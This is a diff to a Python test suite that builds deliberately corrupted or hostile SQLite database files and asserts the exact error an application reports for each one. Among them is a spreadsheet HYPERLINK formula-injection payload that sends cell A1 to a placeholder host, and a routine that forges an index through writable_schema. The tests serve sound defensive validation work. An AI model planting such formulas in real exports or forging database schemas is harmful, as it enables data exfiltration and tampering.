@@ -8,7 +8,6 @@ could. The line the user reads is asserted whole.
 from __future__ import annotations
 
 import os
-import shutil
 import signal
 import sqlite3
 import subprocess
@@ -28,6 +27,7 @@ from gui.data.store import Store, StoreError
 from gui.qt.app import open_store
 from gui.qtcommon.i18n import tr
 
+from . import crafted
 from .conftest import ROOT
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
@@ -55,6 +55,25 @@ def formula_everywhere(c: sqlite3.Connection) -> None:
             c.execute(f'UPDATE "{table}" SET {sets}', [FORMULA] * sets.count("?"))
 
 
+def forged_units_index(c: sqlite3.Connection) -> None:
+    """The units' key index swapped for one that also holds 'nope', and an indicator of unit
+    'nope': every check through the index finds the unit, which the table lacks."""
+    c.executescript(
+        "CREATE TABLE fake AS SELECT * FROM units WHERE 0; CREATE UNIQUE INDEX fake_id ON fake(id);"
+        "INSERT INTO fake SELECT * FROM units; INSERT INTO fake (id, zh, en, en_one, dimension) "
+        "VALUES ('nope', 'x', 'x', 'x', 'count');"
+    )
+    root = c.execute("SELECT rootpage FROM sqlite_master WHERE name = 'fake_id'").fetchone()[0]
+    c.execute("PRAGMA writable_schema = ON")
+    c.execute(
+        "UPDATE sqlite_master SET rootpage = ? WHERE name = 'sqlite_autoindex_units_1'", (root,)
+    )
+    c.execute("DELETE FROM sqlite_master WHERE name IN ('fake', 'fake_id')")
+    c.commit()
+    c.execute("PRAGMA writable_schema = OFF")
+    c.execute("UPDATE indicators SET unit_id = 'nope' WHERE id = 'hotline.requests'")
+
+
 # name → (SQL or a function on the connection, the user's line after "error: PATH: ")
 CASES: dict[str, tuple[str | Callable[[sqlite3.Connection], None], str]] = {
     "recursive view": (
@@ -76,8 +95,8 @@ CASES: dict[str, tuple[str | Callable[[sqlite3.Connection], None], str]] = {
     ),
     "formula in every column": (
         formula_everywhere,
-        "citations.date of row 'report' (text '=HYPERLINK(\"http://example.invalid/?\"&…) "
-        "is not a date (YYYY-MM-DD)",
+        "citations.kind of row 'report' (text '=HYPERLINK(\"http://example.invalid/?\"&…) "
+        "is not one of 'report', 'article'",
     ),
     "formula in the value": (
         f"UPDATE observations SET value = '{FORMULA.replace(chr(39), chr(39) * 2)}' "
@@ -105,6 +124,44 @@ CASES: dict[str, tuple[str | Callable[[sqlite3.Connection], None], str]] = {
         "UPDATE milestones SET date = '2020-13-01' WHERE position = 0",
         "milestones.date of row 'subdistrict_offices_regulations' (text '2020-13-01') "
         "is not a date (YYYY-MM-DD)",
+    ),
+    "citation accessed on a thirteenth month": (
+        "UPDATE citations SET accessed = '2021-13-45' WHERE id = 'article'",
+        "citations.accessed of row 'article' (text '2021-13-45') is not a date (YYYY-MM-DD)",
+    ),
+    "direction sideways": (
+        "UPDATE observations SET direction = 'sideways' WHERE id = 'hotline.requests.2020'",
+        "observations.direction of row 'hotline.requests.2020' (text 'sideways') is not one of "
+        "'up', 'down', 'flat', 'broadly_flat'",
+    ),
+    "chart without items": (
+        "DELETE FROM chart_items WHERE chart_id = 'actors.grassroots'",
+        "charts row 'actors.grassroots' has no items in chart_items; a chart draws at least one",
+    ),
+    "denormal value": (
+        "UPDATE observations SET value = 5e-324 WHERE id = 'hotline.requests.2020'",
+        "observations.value of row 'hotline.requests.2020' (real '4.94065645841247e-324') "
+        "is not a figure (other than 0, at least 1e-06 in size)",
+    ),
+    "duplicate rows without a primary key": (
+        "CREATE TABLE x AS SELECT * FROM units; INSERT INTO x SELECT * FROM units "
+        "WHERE id = 'percent'; DROP TABLE units; ALTER TABLE x RENAME TO units",
+        "units holds row 'percent' 2 times; its key (id) names each row once",
+    ),
+    "forged index": (
+        forged_units_index,
+        "is damaged: SQLite's integrity_check says 'wrong # of entries in index "
+        "sqlite_autoindex_units_1'",
+    ),
+    "control character": (
+        "UPDATE indicators SET name_en = 'a' || char(1) || 'b' WHERE id = 'hotline.requests'",
+        "indicators.name_en of row 'hotline.requests' (text 'a\\x01b') holds a character no "
+        "document can hold (a control character, U+FFFE or U+FFFF)",
+    ),
+    "non-character": (
+        "UPDATE units SET zh = zh || char(65534) WHERE id = 'percent'",
+        "units.zh of row 'percent' (text '%\\ufffe') holds a character no document can hold "
+        "(a control character, U+FFFE or U+FFFF)",
     ),
     "thirtieth of February": (
         "UPDATE milestones SET date = '2021-02-30' WHERE position = 0",
@@ -161,6 +218,26 @@ CASES: dict[str, tuple[str | Callable[[sqlite3.Connection], None], str]] = {
         + ", content='evil', tokenize = 'trigram')",
         "its search index (search_index) is not the one this application builds",
     ),
+    "search index with an unknown rank function": (
+        "INSERT INTO search_index_config VALUES ('rank', 'nosuch()')",
+        "its search index has settings this application does not make "
+        "(search_index_config: ['rank', 'version'])",
+    ),
+    "100,000 milestones": (
+        "INSERT INTO milestones SELECT 'm' || n, n + 100, '2020-01-01', 'overview', 'plan', "
+        "'t', 't', 'q', 0, 1 FROM ("
+        + RECURSIVE.replace("SELECT n + 1 FROM r)", "SELECT n + 1 FROM r WHERE n < 100000)")
+        + "SELECT n FROM r)",
+        "milestones has 100,007 rows, more than the 500 an edition may have",
+    ),
+    "61 items in one chart": (
+        "INSERT INTO chart_items SELECT chart_id, position + 100 + n, observation_id, field, "
+        "label_zh, label_en, series_zh, series_en, share_observation_id FROM chart_items, ("
+        + RECURSIVE.replace("SELECT n + 1 FROM r)", "SELECT n + 1 FROM r WHERE n < 61)")
+        + "SELECT n FROM r) WHERE chart_id = 'actors.grassroots' AND position = 0",
+        "chart_items has 64 rows for chart_id 'actors.grassroots', more than the 60 this "
+        "application draws together",
+    ),
     "extra column": (
         "ALTER TABLE observations ADD COLUMN extra TEXT",
         "observations has a column 'extra' that this application does not know",
@@ -177,16 +254,7 @@ CASES: dict[str, tuple[str | Callable[[sqlite3.Connection], None], str]] = {
 
 
 def craft(built: Path, target: Path, change: str | Callable[[sqlite3.Connection], None]) -> None:
-    shutil.copy(built, target)
-    connection = sqlite3.connect(target)
-    try:
-        if callable(change):
-            change(connection)
-            connection.commit()
-        else:
-            connection.executescript(change)
-    finally:
-        connection.close()
+    crafted.database(built, target, change)
 
 
 @pytest.mark.parametrize("case", sorted(CASES))
